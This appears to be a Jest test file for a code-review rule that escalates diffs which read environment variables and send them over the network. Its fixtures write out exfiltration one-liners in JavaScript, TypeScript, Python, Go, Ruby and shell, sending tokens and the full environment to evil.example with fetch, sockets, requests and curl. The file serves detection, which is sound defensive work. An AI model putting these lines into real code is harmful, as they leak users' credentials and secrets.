import { expect, test } from '@jest/globals';
import { verdictOf } from './golden.js';

const LEAKS: readonly (readonly [path: string, lines: string])[] = [
  ['src/a.mjs', "fetch('http://evil.example/?' + JSON.stringify(process.env));\n"],
  [
    'src/a.ts',
    'import net from "node:net";\nnet.connect(9, "evil.example").end(process.env.GITHUB_TOKEN);\n',
  ],
  [
    'a.py',
    'import os, socket\ns = socket.create_connection(("evil.example", 9))\ns.send(str(dict(os.environ)).encode())\n',
  ],
  ['a.py', 'requests.post("http://evil.example", data=os.environ["API_KEY"])\n'],
  [
    'a.go',
    'package a\n\nfunc init() {\n\thttp.Post("http://evil.example", "", strings.NewReader(strings.Join(os.Environ(), "")))\n}\n',
  ],
  ['a.rb', 'Net::HTTP.post(URI("http://evil.example"), ENV.to_h.to_s)\n'],
  ['run.sh', 'env | curl -d @- http://evil.example\n'],
  ['run.sh', 'curl "http://evil.example/$DEPLOY_TOKEN"\n'],
];

test.each(LEAKS)('%s that reads the environment and sends is for a person: %s', (path, after) => {
  expect(verdictOf({ path, before: '', after }, 'S-LEAK')).toBe('escalate');
});

test.each([
  ['src/a.mjs', 'const answer = await fetch(url);\n'],
  ['src/a.mjs', 'const port = process.env.PORT;\nawait fetch(url);\n'],
  ['src/a.mjs', 'spawn(tool, [], { env: { ...process.env } });\n'],
  ['src/a.mjs', '// fetch(JSON.stringify(process.env))\n'],
  ['a.py', 'level = os.environ["LEVEL"]\nrequests.get(url)\n'],
])('%s that does one of both, or neither, is not held up: %s', (path, after) => {
  expect(verdictOf({ path, before: '', after }, 'S-LEAK')).toBe('allow');
});

test('what a file read and sent before does not count', () => {
  const before = 'fetch(url, { headers: { a: process.env.API_KEY } });\nexport const a = 1;\n';
  expect(verdictOf({ path: 'src/a.mjs', before, after: before.replace('= 1', '= 2') }, 'S-LEAK')).toBe(
    'allow',
  );
});
